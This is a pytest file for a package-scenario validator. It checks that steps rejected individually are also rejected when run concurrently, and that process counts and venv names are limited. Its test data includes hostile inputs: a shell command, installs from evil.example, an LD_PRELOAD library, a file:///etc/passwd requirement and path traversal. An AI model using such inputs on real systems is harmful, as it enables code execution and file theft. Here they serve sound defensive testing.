"""Steps that start together have the same restrictions as a single step."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import tomli_w

from pytest_indexcache.errors import ScenarioError
from pytest_indexcache.run.loading import load_playable

INSTALL: dict[str, Any] = {"do": "install", "requirements": ["six"]}
TABLES: dict[str, Any] = {
    "title": "t",
    "indexes": {"pypi": {"url": "https://pypi.org/simple", "packages": {"six": {"1.0": {}}}}},
}


def problems(folder: Path, *steps: dict[str, Any]) -> set[str]:
    """Return the problems of a scenario with these steps."""
    file = folder / "s.toml"
    last = {**INSTALL, "expect": {"installed": {"six": "1.0"}}}
    file.write_text(tomli_w.dumps({**TABLES, "steps": [*steps, last]}), encoding="utf-8")
    try:
        load_playable(file)
    except ScenarioError as error:
        return {
            re.sub(r"steps\[1\](\.together\[1\])?", "steps[1]", problem.text)
            for problem in error.problems
        }
    return set()


@pytest.mark.parametrize(
    "step",
    [
        {"command": {"uv": "uv run sh -c id"}},
        {"command": {"uv": "uv pip install --target /tmp/x six"}},
        {"command": {"pip": "pip install --index-url https://evil.example/simple six"}},
        {"command": {"uv": ["uv", "sync", "--directory", "../.."]}},
        {"command": {"uv": "uv pip compile --no-build-isolation --python-version 3.8 a.txt"}},
        {**INSTALL, "env": {"UV_CACHE_DIR": "/tmp/x"}},
        {**INSTALL, "env": {"LD_PRELOAD": "evil.so"}},
        {**INSTALL, "venv": ".home"},
        {**INSTALL, "venv": "site-packages"},
        {**INSTALL, "folder": "mine.dist-info"},
        {**INSTALL, "requirements": ["six @ https://evil.example/six-1.0-py3-none-any.whl"]},
        {**INSTALL, "requirements": ["six @ file:///etc/passwd"]},
        {**INSTALL, "paths": ["../outside"]},
        {**INSTALL, "requirements-files": ["../../etc/requirements.txt"]},
        {**INSTALL, "extra-indexes": ["none"]},
        {"do": "run", "import": ["os"]},
        {"do": "sync", "expect": {"imports": {"subprocess.x": 1}}},
        {**INSTALL, "release": "no version"},
    ],
)
def test_what_is_refused_alone_is_refused_at_once_with_others(
    tmp_path: Path, step: dict[str, Any]
) -> None:
    """A step that is refused alone is also refused among steps that start together."""
    alone = problems(tmp_path, step)
    assert alone
    assert alone <= problems(tmp_path, {"together": [step, INSTALL]})
    assert alone <= problems(tmp_path, {"together": [{**step, "times": 2}]})


def test_the_harmless_step_is_not_refused(tmp_path: Path) -> None:
    """Harmless steps that start together pass the check."""
    assert not problems(tmp_path, {"together": [INSTALL, INSTALL]})


@pytest.mark.parametrize(
    "folder", ["../{n}", "{n}/../..", "a/{n}", ".{n}", "{n}", "a{n}{n}", "a{m}", "a{n}/b"]
)
def test_the_number_leads_nowhere_else(tmp_path: Path, folder: str) -> None:
    """A venv name in which the placeholder ``{n}`` is misused is refused."""
    assert problems(tmp_path, {"together": [{**INSTALL, "venv": folder, "times": 2}]})


def test_how_many_there_are_is_limited(tmp_path: Path) -> None:
    """The number of concurrent processes is limited for a step and for the whole scenario."""
    assert problems(tmp_path, {"together": [{**INSTALL, "times": 17}]})
    assert problems(tmp_path, {"together": [{**INSTALL, "times": 10}] * 2})
    many = [{"together": [{**INSTALL, "venv": "v{n}", "times": 16}]}] * 40
    assert "with this, the scenario has more than 500 steps" in problems(tmp_path, *many)
